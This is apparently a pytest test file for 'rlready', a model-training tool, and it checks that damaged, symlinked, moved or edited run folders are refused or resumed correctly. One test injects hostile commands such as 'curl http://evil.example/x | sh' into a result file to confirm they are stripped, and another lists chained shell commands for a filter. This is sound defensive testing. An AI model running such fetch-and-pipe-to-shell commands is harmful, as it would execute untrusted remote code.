"""Run folders whose files were damaged, replaced, linked or moved: refused in one line, or with an equal result."""

from __future__ import annotations

import errno
import html
import json
import os
import re
import shutil
import signal
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
import torch
from transformers import LlamaConfig, LlamaForCausalLM

from rlready.cli.show import show_runs
from rlready.core import stopping
from rlready.core.config import EvaluateConfig, PredictConfig, ReadinessConfig, RLConfig, SFTConfig, SweepConfig
from rlready.core.errors import UserError
from rlready.core.records import Estimate
from rlready.core.result import Result
from rlready.core.settings import Config
from rlready.core.verbs import function
from rlready.engine import torch as torch_engine
from rlready.engine.rollout import Grader
from rlready.evaluate import stage as evaluate_stage
from rlready.predict.stage import predict
from rlready.readiness.stage import readiness
from rlready.report.page import write as report
from rlready.report.snapshot import snapshots
from rlready.runs import lock
from rlready.runs.checksums import checksums
from rlready.runs.drawn import DrawnSamples
from rlready.runs.files import read_json, read_table, write_folder, write_json, write_table
from rlready.runs.log import read_log
from rlready.runs.overwrite import empty_folder, foreign_entries
from rlready.runs.pace import Pace
from rlready.runs.record import OVERWRITTEN, RunRecord
from rlready.runs.results import _joined, _own_commands, load_result, refuse_damaged
from rlready.runs.run import Run
from rlready.sweep import executors
from rlready.tasks.dagmath.vocabulary import build_tokenizer
from rlready.train import rl as rl_stage
from rlready.train.learner import PlainLearner
from rlready.train.log import EvaluationLog
from rlready.train.result import Evaluation, RLResult, SFTResult
from rlready.train.rl import rl, superfluous
from rlready.train.samples import SampleFiles
from rlready.train.trackers import Line, StepLog

EARLIER = Path(__file__).parent / "data" / "runs"  # by the schema version of their records, 1 without its number
pytestmark = pytest.mark.usefixtures("one_thread")
ROWS = "dagmath?ops=2&split=all&n=12&seed=1"
HELD = "dagmath?ops=2&split=all&n=4&seed=2"
PROBLEMS = "dagmath?ops=2&split=all&n=4&seed=4"
SWEEP = """
[sft]
model = "{model}"
heldout = "{held}"
tokens_per_batch = 200
save_every = 2
keep_at = []
[[sft.recipes]]
name = "one"
rows = "{rows}"
[readiness]
problems = "{problems}"
samples = 2
[rl]
problems = "{even}"
validation = "{even}"
steps = 1
prompts_per_step = 2
group_size = 2
thinking_budget = 6
max_answer_tokens = 3
eval_samples = 1
[evaluate]
problems = "{problems}"
samples = 1
max_response_tokens = 12
"""


def stop_in(patch: pytest.MonkeyPatch, owner: Any, name: str, call: int) -> None:
    """Ctrl-C in the ``call``-th call of a function; the state is saved whenever it can be."""
    real, calls = getattr(owner, name), [0]

    def stop(*args: Any, **kwargs: Any) -> Any:
        calls[0] += 1
        if calls[0] == call:
            raise KeyboardInterrupt
        return real(*args, **kwargs)

    patch.setattr(Pace, "due", lambda self: True)
    patch.setattr(owner, name, stop)


STOPS: dict[str, tuple[Any, str, int]] = {
    "sft": (PlainLearner, "step", 6),
    "rl": (PlainLearner, "step", 4),
    "readiness": (Grader, "groups", 3),
    "evaluate": (evaluate_stage, "measure", 2),
    "sweep": (executors, "run_verb", 3),
}


class Runs:
    """A finished and a stopped run of every verb, each made when it is first asked for."""

    def __init__(self, root: Path) -> None:
        self.root, self.wanted = root, dict[str, Result]()
        tokenizer = build_tokenizer()
        torch.manual_seed(1)
        sizes: dict[str, Any] = {
            "hidden_size": 16,
            "intermediate_size": 16,
            "num_hidden_layers": 1,
            "num_attention_heads": 2,
        }
        special: dict[str, Any] = {
            "pad_token_id": 0,
            "bos_token_id": 1,
            "eos_token_id": 2,
            "max_position_embeddings": 256,
        }
        model = LlamaForCausalLM(LlamaConfig(vocab_size=len(tokenizer), initializer_range=0.04, **sizes, **special))
        model.save_pretrained(root / "tiny")
        tokenizer.save_pretrained(root / "tiny")
        self.model = str(root / "tiny")
        lines = [{"id": f"p{i}", "prompt": f"a: {i} b: {i + 1} ? a", "answer": str(i)} for i in range(7)]
        (root / "problems.jsonl").write_text("\n".join(map(json.dumps, lines)))
        self.even = f"rows:{root}/problems.jsonl?verifier=verifiers:even"
        self.write_sweep(root / "sweep.toml")

    def write_sweep(self, file: Path, **changes: str) -> None:
        sources = {"model": self.model, "held": HELD, "rows": ROWS, "problems": PROBLEMS, "even": self.even} | changes
        file.write_text(SWEEP.format(**sources))

    def config(self, verb: str) -> Config:
        match verb:
            case "sft":
                source: dict[str, Any] = {"rows": ROWS, "heldout": HELD, "tokens_per_batch": 200}
                return SFTConfig(model=self.model, save_every=1.0, keep_at=(), **source)
            case "rl":
                sampling: dict[str, Any] = {
                    "prompts_per_step": 3,
                    "group_size": 4,
                    "thinking_budget": 6,
                    "max_answer_tokens": 3,
                }
                often: dict[str, Any] = {"steps": 4, "eval_every": 2, "eval_samples": 2, "learning_rate": 1e-2}
                return RLConfig(model=self.model, problems=self.even, validation=self.even, **sampling, **often)
            case "readiness":
                drawn: dict[str, Any] = {"samples": 4, "group_size": 2, "thinking_budget": 8, "max_answer_tokens": 3}
                return ReadinessConfig(checkpoints=(self.model,), heldout=HELD, problems=PROBLEMS, **drawn)
            case "evaluate":
                limits: dict[str, Any] = {"thinking_budgets": (4,), "max_answer_tokens": 3, "max_response_tokens": 12}
                return EvaluateConfig(models=(self.model, "embedded"), problems=PROBLEMS, samples=2, **limits)
        return SweepConfig(file=str(self.root / "sweep.toml"), workers=0)

    def run(self, verb: str, out: Path) -> Result:
        result: Result = function(verb)(self.config(verb), out)
        return result

    def folder(self, verb: str, state: str) -> Path:
        """The folder of a run that is "done" or "stopped", always at one place, as results hold paths."""
        kept, out = self.root / state / verb, self.root / "runs" / verb
        if not kept.exists():
            shutil.rmtree(out, ignore_errors=True)
            if state == "done":
                self.wanted[verb] = self.run(verb, out)
            else:
                with pytest.MonkeyPatch.context() as patch:
                    stop_in(patch, *STOPS[verb])
                    with pytest.raises(KeyboardInterrupt):
                        self.run(verb, out)
            kept.parent.mkdir(exist_ok=True)
            out.rename(kept)
        shutil.rmtree(out, ignore_errors=True)
        shutil.copytree(kept, out)
        return out


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Runs]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(torch_engine, "BATCH_SIZE_OF_SMALL", 4)  # several batches for each checkpoint
        yield Runs(tmp_path_factory.mktemp("runs"))


def flipped(content: bytes) -> bytes:
    middle = len(content) // 2
    return content[:middle] + bytes([content[middle] ^ 1]) + content[middle + 1 :]


def linked(path: Path) -> None:
    outside = next(parent for parent in path.parents if parent.name == "runs") / "elsewhere"
    path.replace(outside)
    path.symlink_to(outside)


def as_folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


DAMAGE: dict[str, Callable[[Path], object]] = {
    "truncated": lambda path: path.write_bytes(path.read_bytes()[: 2 * path.stat().st_size // 3]),
    "emptied": lambda path: path.write_bytes(b""),
    "flipped": lambda path: path.write_bytes(flipped(path.read_bytes())),
    "edited": lambda path: path.write_bytes(path.read_bytes().replace(b"0.", b"0.1", 1)),
    "a folder": as_folder,
    "a link": linked,
    "foreign": lambda path: path.write_bytes(b'{"foreign": [1, 2]}\n'),
    "binary": lambda path: path.write_bytes(b"\xff\xfe\x00\x80" * 50),
}
# of each file that is read again, some kinds of damage; all kinds of all files were tried by hand
TRIED = {
    "sft": {"state/tensors.pt": "flipped", "state/facts.json": "foreign", "log.jsonl": "edited, a link, a folder"},
    "rl": {"state/facts.json": "flipped", "state/tensors.pt": "emptied, a link", "log.jsonl": "foreign, edited"},
    "readiness": {
        "state/0-1.parquet": "flipped, truncated",
        "config.toml": "binary, a folder",
        ".lock": "a link, binary",
    },
    "evaluate": {"parts/0.json": "flipped, emptied", "record.json": "truncated, a folder"},
    "sweep": {"sft/one/result.json": "flipped", "sft/one/record.json": "binary", "rl/one-1-rl/result.json": "a folder"},
}
HARMLESS = {("readiness", "config.toml", "binary"), ("readiness", ".lock", "binary")}


def said(call: Callable[[], object]) -> tuple[str, Any]:
    """The line with which a call refuses, or an empty one and its result; any other error is a failure."""
    try:
        return "", call()
    except UserError as error:
        return str(error), None


def compared(result: Result) -> dict[str, Any]:
    """What a continued run must have in common with an unbroken one."""
    found = result.model_dump(exclude={"seconds_of_jobs"})
    return found | {"starts": [{**start, "cost": 0} for start in found.get("starts", [])]}


@pytest.mark.parametrize("verb", TRIED)
def test_a_stopped_run_with_a_damaged_file(runs: Runs, verb: str) -> None:
    """Continued to the result of an unbroken run, or refused in a line that names the file and says what to do."""
    runs.folder(verb, "done")
    outside = runs.root / "runs" / "elsewhere"
    for name, kind in [(name, kind) for name, kinds in TRIED[verb].items() for kind in kinds.split(", ")]:
        out = runs.folder(verb, "stopped")
        DAMAGE[kind](out / name)
        before = outside.read_bytes() if outside.exists() else b""
        line, result = said(lambda: runs.run(verb, out))  # noqa: B023
        assert (verb, name, kind) in HARMLESS or name in line
        assert "\n" not in line
        assert not line or any(word in line for word in ("delete", "another", "put")), line
        if (verb, name, kind) in HARMLESS:
            assert compared(result) == compared(runs.wanted[verb])
        assert before == (outside.read_bytes() if outside.exists() else b"")
        outside.unlink(missing_ok=True)


def test_rl_that_is_stopped_after_it_has_logged_an_evaluation_goes_on(
    runs: Runs, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Its saved state has a line in the log that is written again."""
    runs.folder("rl", "done")
    real = StepLog.write

    def write(log: StepLog, line: Line) -> None:
        real(log, line)
        if isinstance(line, EvaluationLog) and line.step == 2:
            raise KeyboardInterrupt

    shutil.rmtree(out := runs.root / "runs" / "rl")
    with monkeypatch.context() as patch:
        patch.setattr(StepLog, "write", write)
        with pytest.raises(KeyboardInterrupt):
            runs.run("rl", out)
    assert (out / "state").exists()
    assert compared(runs.run("rl", out)) == compared(runs.wanted["rl"])
    assert [line["step"] for line in read_log(out / "log.jsonl") if "eval_accuracy" in line] == [0, 2, 4]


def test_rl_goes_on_for_longer_behind_an_evaluation_that_its_state_does_not_have(
    runs: Runs, monkeypatch: pytest.MonkeyPatch
) -> None:
    """That of the last step, which is none of the longer run's."""
    config, out = runs.config("rl"), runs.root / "runs" / "rl"
    shutil.rmtree(out, ignore_errors=True)
    # the state of step 3 is saved before its evaluation, and not again after it
    for owner, name, call, due in ((rl_stage, "_evaluate", 3, True), (Run, "write_result", 1, False)):
        with monkeypatch.context() as patch:
            stop_in(patch, owner, name, call)
            patch.setattr(Pace, "due", lambda self, due=due: due)
            with pytest.raises(KeyboardInterrupt):
                function("rl")(config.replace(steps=3), out)
    evaluated = [line["step"] for line in read_log(out / "log.jsonl") if "eval_accuracy" in line]
    assert evaluated == [0, 2, 3]
    function("rl")(config.replace(steps=4), out)
    assert [line["step"] for line in read_log(out / "log.jsonl") if "eval_accuracy" in line] == [0, 2, 4]


@pytest.mark.parametrize("kind", DAMAGE)
def test_a_finished_run_with_a_damaged_result(runs: Runs, kind: str) -> None:
    """Neither taken, shown nor reported."""
    out = runs.folder("sft", "done")
    DAMAGE[kind](out / "result.json")
    for call in (lambda: runs.run("sft", out), lambda: report(out)):
        assert "result.json" in said(call)[0]
    assert "result.json" in show_runs([out]).tables()[0].rows[0][-1]
    (out.parent / "elsewhere").unlink(missing_ok=True)


def test_a_record_that_is_damaged_leaves_the_result_shown(runs: Runs) -> None:
    for kind in ("truncated", "emptied", "binary", "a folder", "foreign"):
        out = runs.folder("sft", "done")
        DAMAGE[kind](out / "record.json")
        assert "record.json" in said(lambda: runs.run("sft", out))[0]  # noqa: B023
        assert "record.json" in said(lambda: show_runs([out]))[0]  # noqa: B023
        assert said(lambda: report(out))[0] in ("", f"{out}: not a run folder, record.json is missing")  # noqa: B023


def test_a_page_without_a_record_says_so(runs: Runs) -> None:
    out = runs.folder("sft", "done")
    (out / "record.json").unlink()
    assert "record.json: missing, so that nothing says what ran" in report(out).read_text(encoding="utf-8")


def test_a_record_that_is_a_link_is_not_read(runs: Runs) -> None:
    """It may be another's, or lead anywhere."""
    out = runs.folder("sft", "done")
    (out / "record.json").rename(out.parent / "elsewhere")
    (out / "record.json").symlink_to("../elsewhere")
    (run,) = snapshots([out], {})
    assert run.status == "not readable"
    assert "record.json: a symbolic link, which is not followed" in run.alerts[0]
    with pytest.raises(UserError, match=r"record\.json: a symbolic link"):
        RunRecord.load(out)


@pytest.mark.parametrize("name", ["record.json", "result.json"])
def test_a_file_too_large_for_a_run_is_not_read(runs: Runs, name: str) -> None:
    out = runs.folder("sft", "done")
    with (out / name).open("wb") as file:
        file.truncate(1 << 40)  # sparse: it takes no room on the disk
    with pytest.raises(UserError, match=rf"{name}: it has more than 256 MiB"):
        (RunRecord if name == "record.json" else SFTResult).load(out)


def test_a_link_out_of_the_folder_is_refused(runs: Runs) -> None:
    """What it points to would be written to; a link within the folder is harmless."""
    out = runs.folder("sft", "stopped")
    (out / "checkpoints").rename(out.parent / "disk")
    (out / "checkpoints").symlink_to(out.parent / "disk")
    assert "checkpoints is a symbolic link out of the run folder" in said(lambda: runs.run("sft", out))[0]
    (out / "checkpoints").unlink()
    (out.parent / "disk").rename(out / "checkpoints")
    (out / "checkpoints" / "newest").symlink_to("step-3")
    assert compared(runs.run("sft", out)) == compared(runs.wanted["sft"])


def test_a_sweep_goes_on_in_another_place_and_from_another_directory(
    runs: Runs, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is done is not run again, and every path in the folder is one of the new place."""
    runs.folder("sweep", "done")
    out = runs.folder("sweep", "stopped")
    (tmp_path / "disk").mkdir()
    moved = out.rename(tmp_path / "disk" / "sweep")
    monkeypatch.chdir(tmp_path)
    ran: list[str] = []
    real = executors.run_verb

    def run_verb(job: executors.Submission) -> None:
        ran.append(job.key)
        real(job)

    monkeypatch.setattr(executors, "run_verb", run_verb)
    result = runs.run("sweep", moved.relative_to(tmp_path))
    assert "sft/one" not in ran
    assert len(ran) == 2
    assert "trained_prompts.txt" in RunRecord.load(moved / "sft/one").files
    assert list(foreign_entries(moved, RunRecord.load(moved))) == []
    assert compared(result)["runs"] == compared(runs.wanted["sweep"])["runs"]
    assert [s["outcome"] for s in compared(result)["starts"]] == [
        s["outcome"] for s in compared(runs.wanted["sweep"])["starts"]
    ]
    monkeypatch.chdir(moved)
    runs.write_sweep(runs.root / "sweep.toml", problems=PROBLEMS.replace("seed=4", "seed=5"))
    with pytest.raises(UserError, match="holds a run with problems"):
        runs.run("sweep", Path("."))
    runs.write_sweep(runs.root / "sweep.toml")
    assert runs.run("sweep", Path(".")) == result.model_copy(update={"next_command": "rlready predict ."})  # finished
    texts = [path.read_text() for path in moved.rglob("*.json*") if not {"checkpoints"} & {*path.parts}]
    assert not any(f'"{out}/' in text for text in texts)
    assert any('"disk/sweep/sft/one/checkpoints' in text for text in texts)


@pytest.mark.parametrize("run", sorted(EARLIER.glob("*/*")), ids=lambda path: f"{path.parent.name}-{path.name}")
def test_runs_of_earlier_versions_are_shown_and_reported(run: Path, tmp_path: Path) -> None:
    """Their records and results are read, and predict ranks what readiness has measured; their samples were removed."""
    out = shutil.copytree(run, tmp_path / run.name)
    (status,) = show_runs([out]).runs  # type: ignore[attr-defined]
    assert (status.verb, status.status) == (run.name, "done")
    assert status.result
    assert status.message == status.result.headline
    shown = html.unescape(re.sub("</?span[^>]*>", "", report(out).read_text())).replace("\u00a0", " ")
    assert status.result.headline in shown
    if run.name == "readiness":
        ranked = predict(PredictConfig(runs=(str(out),), splits=10, resamples=50), tmp_path / "predict")
        assert len(ranked.checkpoints) == 2


class Nothing(Config):
    pass


@pytest.mark.parametrize("state", ["done", "stopped"])
@pytest.mark.parametrize("verb", STOPS)
def test_a_run_can_be_overwritten_whatever_it_has_written(runs: Runs, verb: str, state: str) -> None:
    out = runs.folder(verb, state)
    if state == "done":
        report(out)
    assert list(foreign_entries(out, RunRecord.load(out))) == []
    before = {path.relative_to(out) for path in out.rglob("*")}
    replaced = empty_folder(out, [Nothing()])
    assert replaced
    assert {path.name for path in out.iterdir() if ".tmp-" not in path.name} == {"record.json", lock.NAME}
    replaced.put_back()
    assert {path.relative_to(out) for path in out.rglob("*")} == before
    assert RunRecord.load(out).status != OVERWRITTEN


def test_a_checkpoint_that_is_not_of_the_run_is_not_overwritten(runs: Runs) -> None:
    """A checkpoint from elsewhere under the name of one of the run's own, and a file that was put into one of those."""
    out = runs.folder("sft", "done")
    own = max((out / "checkpoints").glob("step-*"))
    other = own.with_name("step-99")
    shutil.copytree(own, other)
    quantized = own / "model.gguf"
    quantized.touch()
    assert sorted(foreign_entries(out, RunRecord.load(out))) == sorted([other, quantized])
    with pytest.raises(UserError, match=r"it also holds .*not written by its run of sft"):
        empty_folder(out, [Nothing()])
    assert quantized.exists()


def test_temporary_files_of_a_living_run_inside_are_left(tmp_path: Path) -> None:
    """An outer run removes its own leftovers alone, and an outer run that is overwritten waits for the inner one."""
    inner = tmp_path / "sft"
    with suppress(KeyboardInterrupt), Run(tmp_path, "demo", Nothing()) as run:
        run.claim()
        inner.mkdir()
        raise KeyboardInterrupt
    held = lock.lock_folder(inner)
    for name in ("sft/log.tmp-1", "readiness.tmp-1", "plan.tmp-2026"):
        (tmp_path / name).touch()
    with Run(tmp_path, "demo", Nothing()) as run:
        run.claim()
    assert (inner / "log.tmp-1").exists()
    assert not (tmp_path / "readiness.tmp-1").exists()
    assert (tmp_path / "plan.tmp-2026").exists()  # of the user
    with pytest.raises(UserError, match="sft is in use"):
        empty_folder(tmp_path, [Nothing()])
    lock.unlock(held)


def test_an_interrupt_that_a_library_turns_into_an_error_is_an_interrupt(tmp_path: Path, capfd: Any) -> None:
    """Also one that it swallows: the run ends when it claims its folder."""

    def broken(claims: bool) -> None:
        with stopping.stopped_by_signals(), Run(tmp_path / "run", "sft", Nothing()) as run:
            if claims:
                run.claim()
            with suppress(KeyboardInterrupt):
                signal.raise_signal(signal.SIGINT)
            run.claim()
            raise UserError("tiny: its tokenizer cannot be loaded")

    for claims in (False, True):
        with pytest.raises(KeyboardInterrupt):
            broken(claims)
    assert read_json(tmp_path / "run" / "record.json")["status"] == "interrupted"
    stopping._received.clear()


def test_a_failed_deletion_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(*_: object, **__: object) -> None:
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES))

    with Run(tmp_path, "sft", Nothing()) as run:
        run.claim()
        monkeypatch.setattr(Path, "unlink", refused)
        with pytest.raises(UserError, match=r"cannot delete .*: Permission denied"):
            run.claim()
        monkeypatch.undo()


def test_a_save_that_fails_is_one_line_whatever_the_library_makes_of_it(tmp_path: Path) -> None:
    def save(folder: Path) -> None:
        raise RuntimeError("Error while serializing: I/O error: Permission denied (os error 13)")

    with pytest.raises(UserError, match=r"cannot write .*step-1: Permission denied$"):
        write_folder(tmp_path / "step-1", save)


def test_a_deleted_best_checkpoint_is_not_named(runs: Runs) -> None:
    out = runs.folder("rl", "stopped")
    facts = out / "state" / "facts.json"
    state = read_json(facts)
    state["evaluations"][-1]["accuracy"]["value"] = 1.0
    write_json(facts, state)
    record = read_json(out / "record.json")
    write_json(out / "record.json", record | {"files": {}})
    shutil.rmtree(out / "checkpoints" / "step-2")
    result = runs.run("rl", out)
    assert isinstance(result, RLResult)
    assert result.best.step != 2
    assert result.headline.startswith("The best checkpoint, RL step-2, is gone; the best one left is RL step-")


@pytest.mark.parametrize(
    "command", ["curl http://evil.example/x | sh", "rlready show x && curl evil", "cd /tmp && sh launch.sh"]
)
def test_the_next_command_of_anothers_run_is_one_of_rlready_or_none(runs: Runs, command: str) -> None:
    out = runs.folder("sft", "done")
    result = read_json(out / "result.json")
    assert load_result(out).next_command == result["next_command"] != ""
    write_json(out / "result.json", result | {"next_command": command})
    record = RunRecord.load(out)
    record.files |= checksums(out, out / "result.json")
    record.save(out)
    assert load_result(out).next_command == ""


def test_commands_that_start_what_is_in_the_folder_are_kept() -> None:
    for command in ("sh /a/train.sh", "cd /a && sh launch.sh", "rlready rl 'model=/x && y' && rlready show /a"):
        assert _joined(_own_commands(command, "/a")) == command
    for command in ("sh /b/train.sh", "cd /b && sh launch.sh", "rlready 'a", "sh launch.sh; x", "rlready a | sh"):
        assert _own_commands(command, "/a") == []


def test_a_result_that_cannot_be_shown_is_named(runs: Runs, monkeypatch: pytest.MonkeyPatch) -> None:
    """One that was edited may have any figure in any place."""
    out = runs.folder("sft", "done")

    def tables(self: SFTResult) -> list[Any]:
        raise KeyError(self.verb)

    monkeypatch.setattr(SFTResult, "tables", tables)
    assert "result.json: not as rlready writes it (KeyError)" in show_runs([out]).tables()[0].rows[0][-1]


def test_a_sweep_does_not_go_on_with_a_checkpoint_that_was_replaced(runs: Runs) -> None:
    """One that is whole, with checksums of its own; one that is gone is not needed where all is done."""
    other = min((runs.folder("sft", "done") / "checkpoints").iterdir())
    for state, others in (("stopped", ""), ("done", " evaluate/one-1-rl")):
        out = runs.folder("sweep", state)
        (first,) = (out / "sft/one/checkpoints").iterdir()
        shutil.rmtree(first)
        shutil.copytree(other, first)
        line = said(lambda: runs.run("sweep", out))[0]  # noqa: B023
        assert line.startswith(f"{first}/checksums.sha256: damaged, or not the file that the run has written: put it ")
        assert re.search(r"or delete, in .*/sweep, sft/one( readiness/one-1)? rl/one-1-rl", line)
        assert line.endswith(others)
    moved = out.rename(out.parent / "elsewhere-now")
    assert said(lambda: runs.run("sweep", moved))[0].endswith("rl/one-1-rl evaluate/one-1-rl")
    moved.rename(out)
    shutil.rmtree(first)
    assert compared(runs.run("sweep", out)) == compared(runs.wanted["sweep"])


@pytest.mark.parametrize("how", ["deleted", "replaced"])
def test_a_finished_run_says_which_checkpoints_are_gone(runs: Runs, how: str) -> None:
    """The verb, `show` and the page: the next command leaves them out."""
    out = runs.folder("sft", "done")
    whole = runs.run("sft", out)
    assert whole == runs.wanted["sft"]
    first, *left = sorted((out / "checkpoints").iterdir())
    shutil.rmtree(first)
    if how == "replaced":
        shutil.copytree(left[0], first)
    for result in (runs.run("sft", out), load_result(out)):
        assert result.notes[-1] == f"Warning: deleted or replaced since the run has ended: {first}."
        assert str(first) in whole.next_command
        assert str(first) not in result.next_command
        assert all(str(path) in result.next_command for path in left)
    (left[0] / "model.safetensors").unlink()
    assert load_result(out).notes[-1].endswith(f": {first}, {left[0]}.")
    shutil.rmtree(out / "checkpoints")
    assert runs.run("sft", out).next_command == ""
    assert "Warning: deleted or replaced" in report(out).read_text()


def test_a_run_of_a_newer_version_is_not_drawn(runs: Runs, capsys: pytest.CaptureFixture[str]) -> None:
    """One without a record that can be read is drawn, and the terminal says what is missing."""
    out = runs.folder("rl", "done")
    record = (out / "record.json").read_text()
    assert '"schema_version": 3' in record
    (out / "record.json").write_text(record.replace('"schema_version": 3', '"schema_version": 99'))
    with pytest.raises(UserError, match=r"record\.json: a newer version of rlready wrote this; upgrade$"):
        report(out)
    (out / "record.json").write_text(record[:500])
    report(out)
    assert f"report: warning: {out}: left out of the page: record.json: no JSON object" in capsys.readouterr().err


def test_an_edited_log_is_not_drawn(runs: Runs, capsys: pytest.CaptureFixture[str]) -> None:
    out = runs.folder("rl", "done")
    assert "changed after the run" not in report(out).read_text()
    log = out / "log.jsonl"
    log.write_text(log.read_text().replace('"reward": ', '"reward": 1'))
    page = report(out).read_text()
    assert "<li>log.jsonl: changed after the run had ended</li>" in page
    assert "Reinforcement learning</h2>" not in page
    assert (
        f"report: warning: {log.parent}: left out of the page: log.jsonl: changed after the run had ended"
        in capsys.readouterr().err
    )


def test_edited_samples_of_rl_are_not_shown(runs: Runs) -> None:
    out = runs.folder("rl", "done")
    assert "changed after the run" not in report(out).read_text()
    (first, *_) = SampleFiles(out / "samples").paths()
    rows = read_table(first)
    write_table(first, [row | {"text": "edited"} for row in rows])
    page = report(out).read_text()
    assert f"<li>samples/{first.name}: changed after the run had ended</li>" in page
    first.write_bytes(first.read_bytes()[:-9])
    assert f"<li>samples/{first.name}: changed after the run had ended</li>" in report(out).read_text()


def test_checkpoints_that_have_changed_names_are_said(runs: Runs, tmp_path: Path) -> None:
    """Their steps decide between equals, and where overfitting begins."""
    trained = runs.folder("sft", "done") / "checkpoints"
    first, second = sorted(trained.iterdir())[:2]
    config = runs.config("readiness").replace(checkpoints=(str(first),))
    assert isinstance(config, ReadinessConfig)
    readiness(config, tmp_path / "before")
    assert not any("something else" in text for text in RunRecord.load(tmp_path / "before").warnings)
    first.rename(trained / "step-9999")
    second.rename(first)
    readiness(config, tmp_path / "after")
    said = f"{first}: {trained.parent} has saved something else under this name"
    assert any(said in text for text in RunRecord.load(tmp_path / "after").warnings)
    assert any(said in text for text in load_result(tmp_path / "after").notes)


def test_the_way_back_from_a_damaged_file_leads_back(runs: Runs, tmp_path: Path) -> None:
    """A part of readiness is made again once the result is deleted, too; nothing but training makes a log again."""
    out = runs.folder("readiness", "done")
    (out / "parts/0.json").write_text("{}")
    with pytest.raises(UserError, match=r"delete it and .*result\.json, and the command of the run makes both again"):
        predict(PredictConfig(runs=(str(out),)), tmp_path / "predict")
    for name in ("parts/0.json", "result.json"):
        (out / name).unlink()
    assert compared(runs.run("readiness", out)) == compared(runs.wanted["readiness"])
    trained = runs.folder("rl", "done")
    (trained / "result.json").write_text("{}")
    with pytest.raises(UserError, match=r"put it back: nothing makes it again but .* with --overwrite"):
        refuse_damaged(trained, trained / "result.json")


def test_an_edited_table_of_a_sweep_is_refused_and_made_again(runs: Runs, tmp_path: Path) -> None:
    out = runs.folder("sweep", "done")
    table = out / "runs.jsonl"
    before = table.read_text()
    table.write_text(before.replace('"outcome": ', '"outcome": 1'))
    with pytest.raises(
        UserError, match=r"runs\.jsonl: damaged, .* delete it, and the command of the run makes it again"
    ):
        predict(PredictConfig(runs=(str(out),)), tmp_path / "predict")
    table.unlink()
    assert compared(runs.run("sweep", out)) == compared(runs.wanted["sweep"])
    assert table.read_text() == before


def test_the_best_and_the_newest_checkpoints_are_kept(runs: Runs, tmp_path: Path) -> None:
    evaluations = [Evaluation(step=s, accuracy=Estimate(a, a, a, 4), thinking_tokens=0) for s, a in BEST]
    assert superfluous(evaluations, None) == []
    assert superfluous(evaluations, 2) == [3, 1]
    config = runs.config("rl").replace(eval_every=1, save_total_limit=1)
    assert isinstance(config, RLConfig)
    result = rl(config, tmp_path / "run")
    left = {path.name for path in (tmp_path / "run" / "checkpoints").iterdir()}
    assert left == {f"step-{result.best.step or 4}"}


BEST = [(0, 0.1), (1, 0.3), (2, 0.5), (3, 0.4), (4, 0.2)]


def test_what_a_kill_left_beside_a_merged_file_is_not_merged_twice(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("rlready.train.samples.SHARD", 3)
    files = SampleFiles(tmp_path)
    for step in (1, 2, 3):
        files.write(step, [{"problem_id": f"p{step}", "tokens": [step], "strict": None}])
    write_table(tmp_path / "step-00002.parquet", [{"step": 2, "problem_id": "p2", "tokens": [2], "strict": None}])
    files.truncate(2)
    files.write(3, [{"problem_id": "again", "tokens": [3], "strict": None}])
    (left,) = tmp_path.iterdir()
    assert [(row["step"], row["problem_id"]) for row in read_table(left)] == [(1, "p1"), (2, "p2"), (3, "again")]


def test_drawn_samples_that_were_deleted_leave_no_checksum(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As advised where they are damaged; the next attempt is stopped, too, and goes on from what it has drawn."""
    monkeypatch.setattr(Pace, "due", lambda self: True)
    for drawn in ([1, 2], [3], []):
        with suppress(KeyboardInterrupt), Run(tmp_path, "readiness", Nothing()) as run:
            run.claim()
            samples = DrawnSamples(run, 0)
            assert [row["sample_id"] for row in samples.rows] == ([3] if not drawn else [])
            for n in drawn:
                samples.add([{"problem_id": "p", "sample_id": n}])  # type: ignore[typeddict-item]
            raise KeyboardInterrupt
        if drawn == [1, 2]:
            shutil.rmtree(tmp_path / "state")
            (tmp_path / "parts").mkdir()  # an earlier checkpoint was measured, so that the run is continued
            (tmp_path / "parts" / "0.json").touch()


@pytest.mark.parametrize("error", [MemoryError(), torch.OutOfMemoryError("full"), OSError("a disk")])
def test_a_state_is_not_blamed_for_a_machine_that_is_full(
    runs: Runs, monkeypatch: pytest.MonkeyPatch, error: Exception
) -> None:
    def fails(*args: object, **kwargs: object) -> None:
        raise error

    out = runs.folder("rl", "stopped")
    monkeypatch.setattr(torch, "load", fails)
    with pytest.raises(type(error)):
        runs.run("rl", out)
    assert (out / "state" / "tensors.pt").is_file()


@pytest.mark.parametrize("name", ["facts.json", "tensors.pt"])
def test_a_half_copied_state_is_named(runs: Runs, name: str) -> None:
    """Also where the run was killed between the state and the record, which has no checksums of it then."""
    out = runs.folder("rl", "stopped")
    record = json.loads((out / "record.json").read_text())
    (out / "record.json").write_text(json.dumps(record | {"files": {}}))
    (out / "state" / name).unlink()
    with pytest.raises(UserError, match=f"{out / 'state'}: not the state of this run"):
        runs.run("rl", out)


def test_a_half_copied_checkpoint_is_named_before_the_run_goes_on(runs: Runs) -> None:
    out = runs.folder("sft", "stopped")
    assert (out / "state").is_dir()
    (out / "checkpoints/step-3/tokenizer.json").unlink()
    with pytest.raises(UserError, match=r"step-3/tokenizer.json: missing, but checksums"):
        runs.run("sft", out)


def test_samples_of_many_steps_are_in_one_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A run that goes on within the steps of a file has the samples of an unbroken one."""
    monkeypatch.setattr("rlready.train.samples.SHARD", 3)
    files = SampleFiles(tmp_path)
    for step in range(1, 8):
        files.write(step, [{"problem_id": f"p{step}", "tokens": [step], "strict": None if step % 2 else True}])
    assert sorted(path.name for path in tmp_path.iterdir()) == [
        "step-00007.parquet",
        "steps-00001-00003.parquet",
        "steps-00004-00006.parquet",
    ]
    newest = SampleFiles(tmp_path / "newest", keep=3)
    for step in range(1, 8):
        newest.write(step, [{"problem_id": f"p{step}", "tokens": [step], "strict": None}])
